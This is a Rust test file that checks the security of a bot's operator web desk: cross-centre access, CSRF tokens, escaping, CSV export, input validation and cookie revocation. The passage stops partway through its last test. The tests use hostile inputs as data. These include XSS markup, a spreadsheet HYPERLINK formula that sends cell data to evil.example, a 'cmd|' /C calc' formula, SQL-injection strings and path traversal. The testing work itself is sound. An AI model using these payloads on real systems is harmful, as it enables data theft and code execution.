//! An attacker and a careless user at the operator desk, over real HTTP: a
//! coordinator of one centre reaching for another's groups, sign-ups,
//! messages, coordinators and reports (by URL and by id); forms without
//! their CSRF token or with another session's; markup and formulas typed
//! into every field that comes back on a page or in a CSV; numbers, dates
//! and bodies no form sends; cookies that should no longer work. The tests
//! that pass prove a defence; those marked `ignore = "DEFECT: …"` show a
//! hole (they fail until it is fixed).

use chrono::{Duration, Utc};
use reqwest::StatusCode;
use reqwest::header::{CONTENT_TYPE, COOKIE};
use resilience_bot::domain::{Language, Phone, Programme};
use resilience_bot::store::{Announced, BroadcastBody, Filed, Via};
use sqlx::PgPool;

use crate::desk::{Desk, console, desk_key};
use crate::desk_groups::{CENTRE, OTHER, coordinator, csrf_of};

/// Markup that runs if any page forgets to escape it.
const XSS: &str = "<script>alert(1)</script>\"><img src=x onerror=alert(2)>";
/// `XSS`, form-encoded.
const XSS_FORM: &str = "%3Cscript%3Ealert(1)%3C%2Fscript%3E%22%3E%3Cimg+src%3Dx+onerror%3Dalert(2)%3E";
/// A formula a spreadsheet runs when the CSV is opened.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";

/// A group `id` at `centre` with `capacity` seats, starting in eight days.
async fn group_at(desk: &Desk, id: &str, centre: &str, capacity: i32) {
    let programmes = Programme::built_in().unwrap();
    let start = (Utc::now() + Duration::days(8)).with_timezone(&chrono_tz::Europe::Kyiv).format("%Y-%m-%d 18:00");
    let file = format!(
        "id,programme,centre,capacity,starts,sessions,every,duration\n\
         {id},parenting-without-stress,{centre},{capacity},{start},5,,90\n"
    );
    let ids = programmes.iter().map(|p| p.id.clone()).collect();
    let centres = desk.app.store.centres().await.unwrap().into_iter().map(|c| c.id.to_string()).collect();
    let known = resilience_bot::cohort::csv::Known { programmes: &ids, centres: &centres, now: Utc::now() };
    let rows = resilience_bot::cohort::csv::parse(file.as_bytes(), known).unwrap();
    desk.app.store.import_cohorts(&programmes, &rows).await.unwrap();
}

async fn sign_up(desk: &Desk, group: &str, who: &str, name: &str) {
    desk.app.say(who, Language::Uk, "меню").await;
    let phone = Phone::parse("+380671234567").unwrap();
    desk.app.store.sign_up(group, &console(who), Some(name), Some(&phone), Utc::now()).await.unwrap();
}

async fn report(desk: &Desk, reporter: &str, centre: &str, details: &str) -> i64 {
    desk.app.say(reporter, Language::Uk, "/start").await;
    let today = Utc::now().date_naive();
    let filed = desk.app.store.report_centre(&console(reporter), centre, "phone", Some(details), today).await.unwrap();
    assert!(matches!(filed, Filed::Told(_)), "{filed:?}");
    sqlx::query_scalar("SELECT max(id) FROM centre_report").fetch_one(desk.app.store.pool()).await.unwrap()
}

/// A message to `centre`'s subscribers queued for tomorrow by its coordinator `who`.
async fn scheduled_message(desk: &Desk, who: &str, centre: &str) -> i64 {
    desk.app.store.add_coordinator(centre, &console(who)).await.unwrap();
    let tomorrow = (Utc::now() + Duration::days(1)).with_timezone(&chrono_tz::Europe::Kyiv).date_naive();
    let at = tomorrow.and_hms_opt(9, 0, 0).unwrap();
    let body = BroadcastBody::Message("Завтра не працюємо.".to_owned());
    match desk.app.store.announce(&console(who), centre, &body, Some(at), Utc::now(), Via::Bot).await.unwrap() {
        Announced::Queued(id) => id,
        other => panic!("not queued: {other:?}"),
    }
}

/// What the attacks must not have changed: each group's seats and whether
/// it is cancelled, sign-ups' statuses, messages' statuses, open reports,
/// coordinators and invitations.
async fn snapshot(desk: &Desk) -> String {
    let pool = desk.app.store.pool();
    let groups: Vec<(String, i32, bool)> =
        sqlx::query_as("SELECT id, capacity, cancelled FROM cohort ORDER BY id").fetch_all(pool).await.unwrap();
    let signups: Vec<(String, String)> =
        sqlx::query_as("SELECT cohort_id, status FROM signup ORDER BY id").fetch_all(pool).await.unwrap();
    let messages: Vec<(i64, String)> =
        sqlx::query_as("SELECT id, status FROM broadcast ORDER BY id").fetch_all(pool).await.unwrap();
    let reports: Vec<(i64, bool)> =
        sqlx::query_as("SELECT id, handled_at IS NULL FROM centre_report ORDER BY id").fetch_all(pool).await.unwrap();
    let coordinators: Vec<(String, String)> =
        sqlx::query_as("SELECT centre_id, external_id FROM coordinator ORDER BY 1, 2").fetch_all(pool).await.unwrap();
    let invites: i64 = sqlx::query_scalar("SELECT count(*) FROM coordinator_invite").fetch_one(pool).await.unwrap();
    format!("{groups:?}\n{signups:?}\n{messages:?}\n{reports:?}\n{coordinators:?}\ninvites {invites}")
}

/// Every state-changing form of the desk that carries only a CSRF token
/// and a few fields, with `{own}`, `{group}`, `{message}`, `{report}` and
/// `{key}` to fill in.
const POSTS: [(&str, &str); 13] = [
    ("/centres/{own}/edit", "field=email&value=desk%40example.org"),
    ("/centres/{own}/preview", "field=email&value=desk%40example.org"),
    ("/centres/{own}/groups", "programme=parenting-without-stress&first=&sessions=5&minutes=90&capacity=5"),
    ("/centres/{own}/groups/{group}/seats", "capacity=1"),
    ("/centres/{own}/groups/{group}/cancel", ""),
    ("/centres/{own}/messages", "kind=message&text=Hi&at="),
    ("/centres/{own}/messages/preview", "kind=message&text=Hi&at="),
    ("/centres/{own}/messages/{message}/cancel", ""),
    ("/centres/{own}/coordinators/invite", "expires=7d"),
    ("/centres/{own}/coordinators/revoke", "key={key}"),
    ("/reports/{report}/close", ""),
    ("/import/{upload}/apply", ""),
    ("/sign-out", ""),
];

fn fill(route: &str, own: &str, group: &str, message: i64, report: i64, key: &str) -> String {
    route
        .replace("{own}", own)
        .replace("{group}", group)
        .replace("{message}", &message.to_string())
        .replace("{report}", &report.to_string())
        .replace("{key}", key)
        .replace("{upload}", &"0".repeat(64))
}

#[sqlx::test]
async fn a_coordinator_of_one_centre_reaches_nothing_of_another_by_any_route_or_id(pool: PgPool) {
    let desk = Desk::start(pool).await;
    group_at(&desk, "grp-own", CENTRE, 5).await;
    group_at(&desk, "grp-other", OTHER, 5).await;
    sign_up(&desk, "grp-other", "p1", "Оксана-Секрет").await;
    let their_report = report(&desk, "reporter-1", OTHER, "Деталі-чужого-звіту").await;
    let their_message = scheduled_message(&desk, "coord-other", OTHER).await;
    let their_key = desk_key(&desk, OTHER, "coord-other").await;
    let (cookie, csrf) = coordinator(&desk, "coord-own", CENTRE).await;
    let before = snapshot(&desk).await;

    // Every POST at the other centre, with this session's good token.
    for (route, body) in POSTS {
        if route == "/sign-out" || route.starts_with("/import") {
            continue;
        }
        let other_path = fill(route, OTHER, "grp-other", their_message, their_report, &their_key);
        let response = desk.post(&other_path, Some(&cookie), &format!("csrf={csrf}&{body}")).await;
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{other_path}");
    }
    // The other centre's group, message, report or coordinator under the own centre's URL.
    for (path, body) in [
        (format!("/centres/{CENTRE}/groups/grp-other/seats"), "capacity=1".to_owned()),
        (format!("/centres/{CENTRE}/groups/grp-other/cancel"), String::new()),
        (format!("/centres/{CENTRE}/messages/{their_message}/cancel"), String::new()),
        (format!("/centres/{CENTRE}/coordinators/revoke"), format!("key={their_key}")),
        (format!("/centres/{CENTRE}/edit"), format!("field=email&value=a%40example.org&report={their_report}")),
    ] {
        let response = desk.post(&path, Some(&cookie), &format!("csrf={csrf}&{body}")).await;
        let status = response.status();
        assert!(status.is_client_error() || path.ends_with("/edit"), "{path}: {status}");
        assert!(!response.text().await.unwrap().contains("Оксана-Секрет"), "{path}");
    }
    // Every GET of the other centre's groups, by its URL and under the own one.
    for centre in [OTHER, CENTRE] {
        for tail in ["cancel", "signups", "signups.csv"] {
            let path = format!("/centres/{centre}/groups/grp-other/{tail}");
            let response = desk.get(&path, Some(&cookie)).await;
            let expected = if centre == OTHER { StatusCode::FORBIDDEN } else { StatusCode::NOT_FOUND };
            assert_eq!(response.status(), expected, "{path}");
            assert!(!response.text().await.unwrap().contains("Оксана-Секрет"), "{path}");
        }
    }
    // The inbox filtered by the other centre shows none of its reports.
    let inbox = desk.get(&format!("/reports?centre={OTHER}&status=all"), Some(&cookie)).await;
    assert_eq!(inbox.status(), StatusCode::OK);
    assert!(!inbox.text().await.unwrap().contains("Деталі-чужого-звіту"));
    // The other centre's report beside the own centre's edit form is not shown.
    let beside = desk.get(&format!("/centres/{CENTRE}?report={their_report}"), Some(&cookie)).await;
    assert_eq!(beside.status(), StatusCode::OK);
    assert!(!beside.text().await.unwrap().contains("Деталі-чужого-звіту"));
    // Import is for operators, whoever's key it is.
    let apply = desk.post(&format!("/import/{}/apply", "0".repeat(64)), Some(&cookie), &format!("csrf={csrf}")).await;
    assert_eq!(apply.status(), StatusCode::FORBIDDEN);

    // Only the own centre's e-mail changed (the other centre's report stays open).
    assert_eq!(snapshot(&desk).await, before);
    let audit = crate::desk::changes(&desk).await;
    assert!(audit.iter().all(|a| a.action == "edit-centre" && a.subject.contains(CENTRE)), "{audit:?}");
}

#[sqlx::test]
async fn every_post_route_refuses_a_missing_or_another_sessions_csrf_token(pool: PgPool) {
    let desk = Desk::start(pool).await;
    group_at(&desk, "grp-own", CENTRE, 5).await;
    sign_up(&desk, "grp-own", "p1", "Оксана").await;
    let message = scheduled_message(&desk, "coord", CENTRE).await;
    let their_report = report(&desk, "reporter-1", CENTRE, "Номер не відповідає").await;
    let key = desk_key(&desk, CENTRE, "coord").await;
    let cookie = desk.signed_in_operator().await;
    // Another operator's session: a real token, but not this session's.
    desk.app.store.add_operator(&console("op2")).await.unwrap();
    let other = desk.sign_in(&desk.link_from_bot("op2").await).await;
    let foreign = csrf_of(&desk.get("/", Some(&other)).await.text().await.unwrap());
    let own = csrf_of(&desk.get("/", Some(&cookie)).await.text().await.unwrap());
    assert_ne!(foreign, own);
    let before = snapshot(&desk).await;

    for (route, body) in POSTS {
        let path = fill(route, CENTRE, "grp-own", message, their_report, &key);
        for token in ["", "csrf=&", "csrf=x&", &format!("csrf={foreign}&"), &format!("csrf={}&", &own[..own.len() - 1])]
        {
            let response = desk.post(&path, Some(&cookie), &format!("{token}{body}")).await;
            assert_eq!(response.status(), StatusCode::FORBIDDEN, "{path} with {token:?}");
        }
        // And a repeated field: the first token forged, the second right.
        let twice = desk.post(&path, Some(&cookie), &format!("csrf={foreign}&csrf={own}&{body}")).await;
        assert!(twice.status().is_client_error(), "{path} with two tokens: {}", twice.status());
    }
    // The upload form (multipart) too.
    let response = upload(&desk, &cookie, &foreign, "c.csv", "id").await;
    assert_eq!(response.status(), StatusCode::FORBIDDEN);

    assert_eq!(snapshot(&desk).await, before);
    assert!(crate::desk::changes(&desk).await.is_empty());
    assert_eq!(desk.get("/", Some(&cookie)).await.status(), StatusCode::OK, "still signed in");
}

/// The page at `path`, which must show `XSS` only escaped.
async fn escaped(desk: &Desk, cookie: &str, path: &str) -> String {
    let response = desk.get(path, Some(cookie)).await;
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    let page = response.text().await.unwrap();
    for raw in ["<script>alert", "<img src=x", "\"><img", "onerror=alert(2)>"] {
        assert!(!page.contains(raw), "{path} shows {raw:?} unescaped");
    }
    page
}

#[sqlx::test]
async fn markup_typed_into_any_field_comes_back_escaped_on_every_page(pool: PgPool) {
    let desk = Desk::start(pool).await;
    // A centre's names as an import could bring them, a group's sign-up, a report.
    sqlx::query("UPDATE centre SET name_uk = $2, name_en = $2 WHERE id = $1")
        .bind(CENTRE)
        .bind(XSS)
        .execute(desk.app.store.pool())
        .await
        .unwrap();
    group_at(&desk, "grp-own", CENTRE, 5).await;
    sign_up(&desk, "grp-own", "p1", XSS).await;
    report(&desk, "reporter-1", CENTRE, XSS).await;
    desk.app.store.add_coordinator(CENTRE, &console("coord")).await.unwrap();
    let cookie = desk.signed_in_operator().await;
    let csrf = csrf_of(&desk.get("/", Some(&cookie)).await.text().await.unwrap());
    // An address typed at the desk (it is audited, so the log shows it too).
    let edit = desk
        .post(
            &format!("/centres/{CENTRE}/edit"),
            Some(&cookie),
            &format!("csrf={csrf}&field=address_uk&value={XSS_FORM}"),
        )
        .await;
    assert_eq!(edit.status(), StatusCode::SEE_OTHER);

    let centre = escaped(&desk, &cookie, &format!("/centres/{CENTRE}")).await;
    // askama writes decimal entities.
    assert!(centre.contains("&#60;script&#62;alert(1)&#60;/script&#62;&#34;&#62;&#60;img"), "the payload, escaped");
    for path in [
        "/".to_owned(),
        "/centres".to_owned(),
        "/audit".to_owned(),
        "/reports".to_owned(),
        "/statistics".to_owned(),
        "/coverage".to_owned(),
        format!("/centres/{CENTRE}/coordinators"),
        format!("/centres/{CENTRE}/poster"),
        format!("/centres/{CENTRE}/groups"),
        format!("/centres/{CENTRE}/groups/grp-own/cancel"),
        format!("/centres/{CENTRE}/messages"),
    ] {
        escaped(&desk, &cookie, &path).await;
    }
    let reports = escaped(&desk, &cookie, "/reports").await;
    assert!(reports.contains("&#60;img src=x"), "the report's details, escaped");
    let signups = escaped(&desk, &cookie, &format!("/centres/{CENTRE}/groups/grp-own/signups")).await;
    assert!(signups.contains("&#60;script&#62;"), "the sign-up's name, escaped");

    // A message's preview repeats what was typed; a refused edit repeats it too.
    let preview = desk
        .post(
            &format!("/centres/{CENTRE}/messages/preview"),
            Some(&cookie),
            &format!("csrf={csrf}&kind=message&text={XSS_FORM}&at={XSS_FORM}"),
        )
        .await
        .text()
        .await
        .unwrap();
    assert!(!preview.contains("<script>alert") && !preview.contains("<img src=x"), "{preview}");
    let refused = desk
        .post(&format!("/centres/{CENTRE}/edit"), Some(&cookie), &format!("csrf={csrf}&field=website&value={XSS_FORM}"))
        .await;
    assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let refused = refused.text().await.unwrap();
    assert!(!refused.contains("<script>alert") && !refused.contains("<img src=x"), "{refused}");
    // javascript: is no website.
    let js = desk
        .post(
            &format!("/centres/{CENTRE}/edit"),
            Some(&cookie),
            &format!("csrf={csrf}&field=website&value=javascript%3Aalert(1)"),
        )
        .await;
    assert_eq!(js.status(), StatusCode::UNPROCESSABLE_ENTITY);
}

#[sqlx::test]
async fn a_sign_up_name_that_is_a_formula_is_defused_in_the_sign_ups_csv(pool: PgPool) {
    let desk = Desk::start(pool).await;
    group_at(&desk, "grp-own", CENTRE, 5).await;
    sign_up(&desk, "grp-own", "p1", FORMULA).await;
    sign_up(&desk, "grp-own", "p2", "@SUM(1+1)*cmd|' /C calc'!A0").await;
    let (cookie, _) = coordinator(&desk, "coord", CENTRE).await;
    let csv = desk.get(&format!("/centres/{CENTRE}/groups/grp-own/signups.csv"), Some(&cookie)).await;
    assert_eq!(csv.status(), StatusCode::OK);
    let csv = csv.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv.as_bytes());
    let cells: Vec<String> =
        reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
    assert!(cells.iter().any(|c| c.contains("HYPERLINK")), "{csv}");
    for cell in &cells {
        assert!(!cell.starts_with(['=', '@', '-']), "a live formula cell {cell:?} in {csv}");
    }
}

#[sqlx::test]
async fn an_address_that_is_a_formula_is_defused_in_the_centres_csv(pool: PgPool) {
    let desk = Desk::start(pool).await;
    // A coordinator (the least trusted desk role) types the address...
    let (cookie, csrf) = coordinator(&desk, "coord", CENTRE).await;
    let value = "%3DHYPERLINK(%22http%3A%2F%2Fevil.example%2F%3F%22%26A1%2C%22Open%22)";
    let edit = desk
        .post(&format!("/centres/{CENTRE}/edit"), Some(&cookie), &format!("csrf={csrf}&field=address_uk&value={value}"))
        .await;
    assert_eq!(edit.status(), StatusCode::SEE_OTHER, "accepted as an address");
    // ...and an operator downloads every centre.
    let operator = desk.signed_in_operator().await;
    let csv = desk.get("/export/centres.csv", Some(&operator)).await.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let cells: Vec<String> =
        reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
    assert!(cells.iter().any(|c| c.contains("HYPERLINK")), "{csv}");
    for cell in &cells {
        assert!(!cell.starts_with(['=', '@']), "a live formula cell {cell:?}");
    }
}

#[sqlx::test]
async fn numbers_dates_ids_and_bodies_no_form_sends_are_refused_and_change_nothing(pool: PgPool) {
    let desk = Desk::start(pool).await;
    group_at(&desk, "grp-own", CENTRE, 5).await;
    sign_up(&desk, "grp-own", "p1", "Оксана").await;
    let (cookie, csrf) = coordinator(&desk, "coord", CENTRE).await;
    let before = snapshot(&desk).await;
    let seats = format!("/centres/{CENTRE}/groups/grp-own/seats");
    for typed in ["-1", "0", "99999999999999999999", "2147483648", "1e3", "5.5", "abc", "", "%00", "%EF%BC%95"] {
        let response = desk.post(&seats, Some(&cookie), &format!("csrf={csrf}&capacity={typed}")).await;
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "capacity {typed:?}");
    }
    let send = format!("/centres/{CENTRE}/messages");
    for at in [
        "01.01.1900+09%3A00",
        "01.01.9999+09%3A00",
        "31.02.2027+09%3A00",
        "29.03.2026+03%3A30",
        "tomorrow",
        "99.99.99999+99%3A99",
    ] {
        let response = desk.post(&send, Some(&cookie), &format!("csrf={csrf}&kind=message&text=Hi&at={at}")).await;
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "at {at:?}");
    }
    let long = "a".repeat(20_000);
    let response = desk.post(&send, Some(&cookie), &format!("csrf={csrf}&kind=message&text={long}&at=")).await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "a message too long");
    let empty = desk.post(&send, Some(&cookie), &format!("csrf={csrf}&kind=message&text=+++&at=")).await;
    assert_eq!(empty.status(), StatusCode::UNPROCESSABLE_ENTITY, "an empty message");

    // Ids that are not numbers, out of range, or of nothing.
    for id in ["abc", "99999999999999999999", "-1", "0", "1%27%20OR%201%3D1"] {
        let cancel = desk.post(&format!("{send}/{id}/cancel"), Some(&cookie), &format!("csrf={csrf}")).await;
        assert!(cancel.status().is_client_error(), "message {id}: {}", cancel.status());
        let close = desk.post(&format!("/reports/{id}/close"), Some(&cookie), &format!("csrf={csrf}")).await;
        assert!(close.status().is_client_error(), "report {id}: {}", close.status());
    }
    for path in [
        format!("/centres/{CENTRE}/groups/nope/signups"),
        format!("/centres/{CENTRE}/groups/..%2F..%2Fetc/signups"),
        format!("/centres/{CENTRE}/groups/%27%3B--/cancel"),
    ] {
        assert_eq!(desk.get(&path, Some(&cookie)).await.status(), StatusCode::NOT_FOUND, "{path}");
    }
    let operator = desk.signed_in_operator().await;
    for path in
        ["/centres/no-such-centre", "/centres/no-such-centre/groups", "/centres/%00/messages", "/centres/x/poster"]
    {
        assert_eq!(desk.get(path, Some(&operator)).await.status(), StatusCode::NOT_FOUND, "{path}");
    }

    // A location that is no place, or no number.
    let edit = format!("/centres/{CENTRE}/edit");
    for (lat, lon) in
        [("NaN", "30"), ("inf", "30"), ("1e400", "30"), ("50.4", ""), ("90.1", "30.5"), ("52.23", "21.01")]
    {
        let body = format!("csrf={csrf}&field=location&lat={lat}&lon={lon}");
        let response = desk.post(&edit, Some(&cookie), &body).await;
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "{lat},{lon}");
    }
    for field in ["name_uk", "id", "sample", "verified_on", "", "location%00"] {
        let response = desk.post(&edit, Some(&cookie), &format!("csrf={csrf}&field={field}&value=x")).await;
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "field {field:?}");
        let said = response.text().await.unwrap();
        assert!(said.contains("Такого поля у формі немає"), "field {field:?} is named as no field of the form: {said}");
    }
    // A new group with numbers and dates no bot answer would pass.
    let first = (Utc::now() + Duration::days(9)).with_timezone(&chrono_tz::Europe::Kyiv).format("%d.%m.%Y");
    let first = format!("{first}+18%3A00");
    let good = |field: &str, value: &str| {
        let mut fields = vec![
            ("programme", "parenting-without-stress".to_owned()),
            ("first", first.to_string()),
            ("sessions", "5".to_owned()),
            ("minutes", "90".to_owned()),
            ("capacity", "10".to_owned()),
            ("language", "uk".to_owned()),
            ("format", "in_person".to_owned()),
        ];
        for (name, v) in &mut fields {
            if *name == field {
                *v = value.to_owned();
            }
        }
        let fields: Vec<String> = fields.iter().map(|(n, v)| format!("{n}={v}")).collect();
        format!("csrf={csrf}&{}", fields.join("&"))
    };
    let groups = format!("/centres/{CENTRE}/groups");
    for (field, value) in [
        ("programme", "..%2F..%2Fetc"),
        ("first", "01.01.1900+18%3A00"),
        ("first", "01.01.9999+18%3A00"),
        ("sessions", "99999999999999999999"),
        ("sessions", "-5"),
        ("minutes", "0"),
        ("minutes", "2147483648"),
        ("capacity", "-1"),
        ("language", "xx"),
        ("format", "%3Cscript%3E"),
    ] {
        let response = desk.post(&groups, Some(&cookie), &good(field, value)).await;
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "{field}={value}");
    }
    assert_eq!(desk.get("/centres?page=-1", Some(&cookie)).await.status(), StatusCode::BAD_REQUEST);
    assert_eq!(
        desk.get("/centres?page=99999999999999999999999", Some(&cookie)).await.status(),
        StatusCode::BAD_REQUEST
    );
    assert_eq!(desk.get("/centres?page=18446744073709551615", Some(&cookie)).await.status(), StatusCode::OK);

    // A body far bigger than any form, and one that is not form-encoded text.
    let huge = format!("csrf={csrf}&capacity=6&pad={}", "x".repeat(3 * 1024 * 1024));
    let response = desk.post(&seats, Some(&cookie), &huge).await;
    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let response = reqwest::Client::new()
        .post(format!("{}{seats}", desk.base))
        .header(COOKIE, &cookie)
        .header(CONTENT_TYPE, "application/json")
        .body(format!("{{\"csrf\":\"{csrf}\",\"capacity\":\"6\"}}"))
        .send()
        .await
        .unwrap();
    assert!(response.status().is_client_error(), "JSON: {}", response.status());

    assert_eq!(snapshot(&desk).await, before);
    assert!(crate::desk::changes(&desk).await.is_empty());
    // The same new-group form with no field spoilt is taken: each refusal above was that field's.
    assert_eq!(desk.post(&groups, Some(&cookie), &good("", "")).await.status(), StatusCode::SEE_OTHER);
}

#[sqlx::test]
async fn a_value_that_is_not_utf8_is_refused_not_saved_as_replacement_characters(pool: PgPool) {
    let desk = Desk::start(pool).await;
    let (cookie, csrf) = coordinator(&desk, "coord", CENTRE).await;
    let before = desk.app.store.centres().await.unwrap().into_iter().find(|c| c.id.as_str() == CENTRE).unwrap();
    let edit = desk
        .post(
            &format!("/centres/{CENTRE}/edit"),
            Some(&cookie),
            &format!("csrf={csrf}&field=address_uk&value=%C0%AF%FF%FE"),
        )
        .await;
    let status = edit.status();
    let after = desk.app.store.centres().await.unwrap().into_iter().find(|c| c.id.as_str() == CENTRE).unwrap();
    assert_eq!(after.address_uk, before.address_uk, "stored {:?}", after.address_uk);
    assert!(status.is_client_error(), "{status}");
}

#[sqlx::test]
async fn forged_stale_and_revoked_cookies_reach_nothing(pool: PgPool) {
    let desk = Desk::start(pool).await;
    for forged in [
        "desk_session=",
        "desk_session=forged",
        "desk_session=' OR '1'='1",
        "desk_session=00000000000000000000000000000000000000000000000000000000000000",
        &format!("desk_session={}", "a".repeat(8000)),
        "desk_session=%00",
        "other=1; desk_session=x; desk_session=y",
    ] {
        assert_eq!(desk.get("/", Some(forged)).await.status(), StatusCode::UNAUTHORIZED, "{forged}");
        let post =
            desk.post(&format!("/centres/{CENTRE}/edit"), Some(forged), "csrf=&field=email&value=a%40b.org").await;
        assert_eq!(post.status(), StatusCode::UNAUTHORIZED, "{forged}");
    }

    // A coordinator of two centres loses one: the role is read on every request.
    desk.app.store.add_coordinator(OTHER, &console("coord")).await.unwrap();
    let (coord, coord_csrf) = coordinator(&desk, "coord", CENTRE).await;
    assert_eq!(desk.get(&format!("/centres/{OTHER}/groups"), Some(&coord)).await.status(), StatusCode::OK);
    let operator = desk.signed_in_operator().await;
    let csrf = csrf_of(&desk.get("/", Some(&operator)).await.text().await.unwrap());
    let key = desk_key(&desk, OTHER, "coord").await;
    let revoke = desk
        .post(&format!("/centres/{OTHER}/coordinators/revoke"), Some(&operator), &format!("csrf={csrf}&key={key}"))
        .await;
    assert_eq!(revoke.status(), StatusCode::SEE_OTHER);
    assert_eq!(desk.get(&format!("/centres/{OTHER}/groups"), Some(&coord)).await.status(), StatusCode::FORBIDDEN);
    assert_eq!(desk.get(&format!("/centres/{CENTRE}/groups"), Some(&coord)).await.status(), StatusCode::OK);
    // Then the last one: the session ends, and its token with it.
    let key = desk_key(&desk, CENTRE, "coord").await;
    let revoke = desk
        .post(&format!("/centres/{CENTRE}/coordinators/revoke"), Some(&operator), &format!("csrf={csrf}&key={key}"))
        .await;
    assert_eq!(revoke.status(), StatusCode::SEE_OTHER);
    assert_eq!(desk.get("/", Some(&coord)).await.status(), StatusCode::UNAUTHORIZED);
    let late = desk
        .post(
            &format!("/centres/{CENTRE}/edit"),
            Some(&coord),
            &format!("csrf={coord_csrf}&field=email&value=a%40b.org"),
        )
        .await;
    assert_eq!(late.status(), StatusCode::UNAUTHORIZED);
    // Revoked again: nothing to revoke, and no link for someone with no role.
    let again = desk
        .post(&format!("/centres/{CENTRE}/coordinators/revoke"), Some(&operator), &format!("csrf={csrf}&key={key}"))
        .await;
    assert_eq!(again.status(), StatusCode::NOT_FOUND);
    assert!(desk.app.store.create_desk_link(&console("coord"), Utc::now()).await.unwrap().is_none());

    // Signed out: the cookie and its token are dead, and the link stays used.
    desk.app.store.add_operator(&console("op2")).await.unwrap();
    let link = desk.link_from_bot("op2").await;
    let op2 = desk.sign_in(&link).await;
    let op2_csrf = csrf_of(&desk.get("/", Some(&op2)).await.text().await.unwrap());
    assert_eq!(desk.post("/sign-out", Some(&op2), &format!("csrf={op2_csrf}")).await.status(), StatusCode::OK);
    assert_eq!(desk.get("/audit", Some(&op2)).await.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(
        desk.post("/sign-out", Some(&op2), &format!("csrf={op2_csrf}")).await.status(),
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(desk.post(&link, None, "").await.status(), StatusCode::FORBIDDEN, "a used link");
}

#[sqlx::test]
async fn no_page_shows_a_reporter_or_a_coordinators_id_in_the_clear(pool: PgPool) {
    let desk = Desk::start(pool).await;
    let reporter = "reporter-5550123456";
    report(&desk, reporter, CENTRE, "Номер не відповідає").await;
    let coordinator_id = "7712345678";
    desk.app.store.add_coordinator(CENTRE, &console(coordinator_id)).await.unwrap();
    let operator = desk.signed_in_operator().await;
    for path in [
        "/".to_owned(),
        "/reports?status=all".to_owned(),
        "/audit".to_owned(),
        "/export/centres.csv".to_owned(),
        "/statistics".to_owned(),
        "/coverage.csv".to_owned(),
        format!("/centres/{CENTRE}"),
        format!("/centres/{CENTRE}/coordinators"),
        format!("/centres/{CENTRE}/messages"),
    ] {
        let page = desk.get(&path, Some(&operator)).await.text().await.unwrap();
        assert!(!page.contains("5550123456"), "{path} shows the reporter");
        assert!(!page.contains(coordinator_id), "{path} shows a coordinator's full id");
    }
    let operator_csrf = csrf_of(&desk.get("/", Some(&operator)).await.text().await.unwrap());
    for path in ["/centres/no-such-centre/coordinators/invite", "/centres/no-such-centre/messages"] {
        let body = format!("csrf={operator_csrf}&expires=7d&kind=message&text=Hi&at=");
        assert_eq!(desk.post(path, Some(&operator), &body).await.status(), StatusCode::NOT_FOUND, "{path}");
    }
}

#[sqlx::test]
async fn a_message_is_cancelled_only_under_its_own_centres_url(pool: PgPool) {
    let desk = Desk::start(pool).await;
    let theirs = scheduled_message(&desk, "coord-other", OTHER).await;
    let operator = desk.signed_in_operator().await;
    let csrf = csrf_of(&desk.get("/", Some(&operator)).await.text().await.unwrap());
    let cancel = desk
        .post(&format!("/centres/{CENTRE}/messages/{theirs}/cancel"), Some(&operator), &format!("csrf={csrf}"))
        .await;
    let status = cancel.status();
    let left: String = sqlx::query_scalar("SELECT status FROM broadcast WHERE id = $1")
        .bind(theirs)
        .fetch_one(desk.app.store.pool())
        .await
        .unwrap();
    assert_eq!(left, "scheduled", "{status}");
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[sqlx::test]
async fn an_upload_is_applied_only_by_the_session_that_checked_it(pool: PgPool) {
    let desk = Desk::start(pool).await;
    let first = desk.signed_in_operator().await;
    let csrf = csrf_of(&desk.get("/import", Some(&first)).await.text().await.unwrap());
    let file = desk.get("/export/centres.csv", Some(&first)).await.text().await.unwrap();
    let checked = upload(&desk, &first, &csrf, "centres.csv", &file).await;
    assert_eq!(checked.status(), StatusCode::OK);
    let page = checked.text().await.unwrap();
    let key = page.split("/import/").nth(1).and_then(|rest| rest.split('/').next()).expect("an apply form").to_owned();

    desk.app.store.add_operator(&console("op2")).await.unwrap();
    let second = desk.sign_in(&desk.link_from_bot("op2").await).await;
    let second_csrf = csrf_of(&desk.get("/", Some(&second)).await.text().await.unwrap());
    let applied = desk.post(&format!("/import/{key}/apply"), Some(&second), &format!("csrf={second_csrf}")).await;
    assert!(applied.status().is_client_error(), "another session applied it: {}", applied.status());
}

#[sqlx::test]
async fn a_sign_in_link_pressed_four_times_at_once_starts_one_session(pool: PgPool) {
    let desk = Desk::start(pool).await;
    desk.app.store.add_operator(&console("op")).await.unwrap();
    let link = desk.link_from_bot("op").await;
    let (a, b, c, d) = tokio::join!(
        desk.post(&link, None, ""),
        desk.post(&link, None, ""),
        desk.post(&link, None, ""),
        desk.post(&link, None, "")
    );
    let statuses = [a.status(), b.status(), c.status(), d.status()];
    assert_eq!(statuses.iter().filter(|s| **s == StatusCode::SEE_OTHER).count(), 1, "{statuses:?}");
    let sessions: i64 =
        sqlx::query_scalar("SELECT count(*) FROM desk_session").fetch_one(desk.app.store.pool()).await.unwrap();
    assert_eq!(sessions, 1);
}

#[sqlx::test]
async fn an_operator_using_one_centres_url_changes_nothing_of_another_centre(pool: PgPool) {
    let desk = Desk::start(pool).await;
    group_at(&desk, "grp-other", OTHER, 5).await;
